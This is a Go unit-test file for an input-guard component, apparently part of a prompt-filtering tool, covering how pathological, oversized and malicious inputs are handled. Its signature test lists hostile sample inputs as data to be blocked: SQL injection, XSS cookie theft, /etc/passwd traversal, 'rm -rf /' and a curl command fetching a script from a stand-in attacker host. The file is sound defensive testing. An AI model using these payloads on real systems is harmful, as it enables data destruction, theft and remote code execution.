package guard

import (
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"promptgate/internal/config"
	"promptgate/internal/policy"
	"promptgate/internal/types"
)

func newGuard() (*Guard, *policy.Policy) {
	return New(config.Default().Guard), policy.Defaults()
}

func TestEmptyInputAllows(t *testing.T) {
	g, pol := newGuard()

	for _, input := range []string{"", "   ", "\n\t  \n"} {
		res := g.Inspect(pol, input)
		require.NotNil(t, res.Verdict, "input %q", input)
		assert.Equal(t, types.ActionAllow, res.Verdict.Action)
		assert.Equal(t, types.MethodGuardEmpty, res.Verdict.Method)
		assert.Equal(t, types.FailureNone, res.Verdict.FailureClass)
		assert.Equal(t, 1, res.Verdict.TierUsed)
	}
}

func TestOversizedInputBlocks(t *testing.T) {
	g, pol := newGuard()

	res := g.Inspect(pol, strings.Repeat("word ", 3000))
	require.NotNil(t, res.Verdict)
	assert.Equal(t, types.ActionBlock, res.Verdict.Action)
	assert.Equal(t, types.MethodGuardPathological, res.Verdict.Method)
	assert.Equal(t, types.FailurePathological, res.Verdict.FailureClass)
	assert.Equal(t, 0.70, res.Verdict.Confidence)
}

func TestRepetitionBlocksFast(t *testing.T) {
	g, pol := newGuard()

	start := time.Now()
	res := g.Inspect(pol, strings.Repeat("a", 10000))
	elapsed := time.Since(start)

	require.NotNil(t, res.Verdict)
	assert.Equal(t, types.ActionBlock, res.Verdict.Action)
	assert.Equal(t, types.MethodGuardPathological, res.Verdict.Method)
	assert.Equal(t, 0.95, res.Verdict.Confidence)
	assert.Less(t, elapsed, 50*time.Millisecond)
}

func TestLowDiversityBlocks(t *testing.T) {
	g, pol := newGuard()

	res := g.Inspect(pol, strings.Repeat("abab", 50))
	require.NotNil(t, res.Verdict)
	assert.Equal(t, types.MethodGuardPathological, res.Verdict.Method)
}

func TestShortRepetitionPasses(t *testing.T) {
	g, pol := newGuard()

	// Under the signal length floor; "haha" style inputs are legitimate.
	res := g.Inspect(pol, "hahahaha")
	assert.Nil(t, res.Verdict)
}

func TestSignatures(t *testing.T) {
	g, pol := newGuard()

	tests := []struct {
		input string
		class types.FailureClass
	}{
		{"SELECT * FROM users WHERE id=1 OR 1=1 --", types.FailureSQLInjection},
		{"'; DROP TABLE accounts; --", types.FailureSQLInjection},
		{"<script>alert(document.cookie)</script>", types.FailureXSS},
		{"<img src=x onerror=alert(1)>", types.FailureXSS},
		{"read ../../etc/passwd please", types.FailurePathTraversal},
		{"do it; rm -rf /", types.FailureCommandInjection},
		{"$(curl evil.example/x.sh)", types.FailureCommandInjection},
	}

	for _, tt := range tests {
		t.Run(tt.input, func(t *testing.T) {
			res := g.Inspect(pol, tt.input)
			require.NotNil(t, res.Verdict)
			assert.Equal(t, types.ActionBlock, res.Verdict.Action)
			assert.Equal(t, types.MethodGuardSignature, res.Verdict.Method)
			assert.Equal(t, tt.class, res.Verdict.FailureClass)
			assert.Equal(t, 1, res.Verdict.TierUsed)
		})
	}
}

func TestSignatureRespectsPolicyOverride(t *testing.T) {
	g := New(config.Default().Guard)
	pol, err := policy.Parse([]byte("failure_policies:\n  sql_injection:\n    action: warn\n"))
	require.NoError(t, err)

	res := g.Inspect(pol, "SELECT * FROM users WHERE id=1 OR 1=1 --")
	require.NotNil(t, res.Verdict)
	assert.Equal(t, types.ActionWarn, res.Verdict.Action)
}

func TestBenignInputPassesThrough(t *testing.T) {
	g, pol := newGuard()

	res := g.Inspect(pol, "What is the capital of France?")
	assert.Nil(t, res.Verdict)
	assert.Equal(t, "What is the capital of France?", res.NormalizedText)
	assert.Equal(t, res.NormalizedText, res.PatternText)
}

func TestNormalizationCollapsesEquivalentInputs(t *testing.T) {
	g, pol := newGuard()

	a := g.Inspect(pol, "hello   world\n\nagain")
	b := g.Inspect(pol, "hello world again")
	require.Nil(t, a.Verdict)
	require.Nil(t, b.Verdict)
	assert.Equal(t, b.NormalizedText, a.NormalizedText)
}

func TestNullBytesStripped(t *testing.T) {
	g, pol := newGuard()

	res := g.Inspect(pol, "hello\x00world and some more text here")
	require.Nil(t, res.Verdict)
	assert.NotContains(t, res.NormalizedText, "\x00")
}

func TestCapsRespectRuneBoundaries(t *testing.T) {
	g := New(config.GuardConfig{
		MaxRawBytes:      10000,
		WindowBytes:      500,
		PatternCapBytes:  10,
		VectorCapBytes:   20,
		MaxCharRatio:     0.80,
		MinDistinctChars: 5,
		MinLenForSignals: 50,
	})
	pol := policy.Defaults()

	res := g.Inspect(pol, "héllo wörld with some trailing content")
	require.Nil(t, res.Verdict)
	assert.LessOrEqual(t, len(res.PatternText), 10)
	assert.True(t, strings.HasPrefix(res.VectorText, res.PatternText))
	for _, s := range []string{res.PatternText, res.VectorText} {
		assert.True(t, len(s) == 0 || s[len(s)-1] != 0xC3, "must not split runes: %q", s)
	}
}
